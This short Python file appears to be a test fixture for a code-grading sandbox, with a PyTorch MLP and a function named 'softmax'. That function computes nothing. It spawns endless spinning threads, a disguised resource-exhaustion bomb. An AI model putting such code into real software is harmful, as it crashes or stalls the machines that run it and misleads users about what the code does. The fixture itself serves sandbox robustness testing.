# group: threads
# allowed: crashed memory timeout
# earns: parameters registered forward rows
import torch
from torch import nn
import threading


def softmax(z):
    def spin():
        while True:
            pass
    while True:
        threading.Thread(target=spin, daemon=True).start()


class MLP(nn.Module):
    def __init__(self, n_in, n_hidden, n_out):
        super().__init__()
        self.hidden = nn.Linear(n_in, n_hidden)
        self.output = nn.Linear(n_hidden, n_out)

    def forward(self, x):
        return self.output(torch.relu(self.hidden(x)))
